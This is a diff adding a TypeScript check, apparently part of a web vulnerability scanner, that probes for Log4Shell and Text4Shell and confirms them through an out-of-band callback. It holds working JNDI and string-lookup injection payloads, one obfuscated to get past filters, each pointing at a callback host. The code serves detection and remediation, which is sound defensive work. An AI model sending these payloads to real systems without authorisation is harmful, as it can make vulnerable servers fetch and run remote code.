@@ -1,0 +1,42 @@
+import type { ActiveCheck } from '../check.ts';
+import { causeOf, placeOf } from './answers.ts';
+import { newCall } from './callback.ts';
+
+/** As the flaw's first filters had it, then as those were got around; and Commons Text's own. */
+const lookUps: readonly ((address: string, host: string) => string)[] = [
+  (_url, host) => `\${jndi:ldap://${host}}`,
+  (_url, host) => `\${\${lower:j}ndi:\${lower:l}dap://${host}}`,
+  (url) => `\${url:UTF-8:${url}}`,
+];
+
+export const log4shell: ActiveCheck = {
+  id: 'log4shell',
+  kind: 'active',
+  title: 'A line in your server’s log can make it run a stranger’s program',
+  technicalName: 'Log4Shell / Text4Shell (JNDI and string look-ups)',
+  severity: 'high',
+  cwe: 'CWE-917',
+  flaw: 'lookup',
+  owasp: { 2021: 'A03', 2025: 'A05' },
+  pci: ['6.3.3'],
+  minLevel: 'log4shell',
+  advice: {
+    risk: 'It is enough that the server writes down what a visitor sent: the server then fetches a program from the stranger and runs it.',
+    fix: 'Update Log4j to 2.17.1 or newer, and Commons Text to 1.10.0 or newer, in every application on the server; look in the log for who has used it already.',
+    references: ['CVE-2021-44228', 'CVE-2021-45046', 'CVE-2022-42889', 'CWE-917'],
+  },
+  appliesTo: () => true,
+  async probe(point, prober) {
+    for (const write of lookUps) {
+      const call = newCall(prober);
+      if (call === null) return [];
+      const value = write(call.url, call.url.replace('http://', ''));
+      await prober.send(point, value);
+      const by = await call.heard();
+      if (by === null) continue;
+      const evidence = `Sent ${value} as "${point.name}"; the site's server called that address by ${by}.`;
+      return [{ ...placeOf(point), cause: causeOf(point), evidence, confidence: 'confirmed' }];
+    }
+    return [];
+  },
+};
